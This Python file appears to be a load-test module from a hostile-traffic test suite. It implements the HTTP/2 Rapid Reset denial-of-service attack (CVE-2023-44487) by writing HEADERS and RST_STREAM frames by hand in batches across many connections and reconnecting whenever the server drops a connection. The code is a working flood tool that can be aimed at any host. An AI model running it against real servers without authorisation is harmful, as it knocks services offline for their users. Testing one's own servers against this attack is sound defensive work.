"""Calls that are begun and reset at once, as many as a server takes (CVE-2023-44487)."""

import asyncio
import contextlib
import itertools
import struct
import time
from collections.abc import AsyncIterator
from typing import Final

from h2.errors import ErrorCodes
from hpack import Encoder
from hyperframe.frame import HeadersFrame, RstStreamFrame, SettingsFrame

from loadtests.hostile.http2 import HELLO, Headers, call_headers

_AT_ONCE: Final = 200
_READ_BYTES: Final = 65_536
_CANCEL: Final = struct.pack(">I", ErrorCodes.CANCEL)


def flood_with_resets(target: str, path: str, *, num_connections: int, seconds: float, extra: Headers = ()) -> int:
    """Begin calls of a method and reset them for a time; return how many.

    Each has the extra headers. A connection that the server closes is replaced.
    """
    headers = [*call_headers(path), *extra]

    async def flood() -> int:
        until_s = time.monotonic() + seconds
        return sum(await asyncio.gather(*(_reset_until(target, headers, until_s) for _ in range(num_connections))))

    return asyncio.run(flood())


async def _reset_until(target: str, headers: Headers, until_s: float) -> int:
    host, _, port = target.rpartition(":")
    num_resets = 0
    while time.monotonic() < until_s:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(host, int(port))
            reading = asyncio.create_task(_read_to_the_end(reader))
            try:
                async for num_more in _resets(writer, headers):
                    num_resets += num_more
                    if reading.done() or time.monotonic() >= until_s:
                        break
            finally:
                reading.cancel()
                writer.transport.abort()
    return num_resets


async def _read_to_the_end(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(_READ_BYTES):
            pass


async def _resets(writer: asyncio.StreamWriter, headers: Headers) -> AsyncIterator[int]:
    """Write for ever; frames are put together by hand, as hyperframe would be slower than the server."""
    encoder = Encoder()
    first, block = encoder.encode(headers), encoder.encode(headers)
    writer.write(HELLO + SettingsFrame(flags=["ACK"]).serialize())
    writer.write(HeadersFrame(1, first, flags=["END_HEADERS"]).serialize())
    begin, reset = HeadersFrame(1, block, flags=["END_HEADERS"]).serialize()[:5], RstStreamFrame(1).serialize()[:5]
    for begin_of_batch in itertools.count(3, 2 * _AT_ONCE):
        streams = [struct.pack(">I", begin_of_batch + 2 * number) for number in range(_AT_ONCE)]
        writer.write(b"".join(begin + stream + block + reset + stream + _CANCEL for stream in streams))
        await writer.drain()
        yield len(streams)
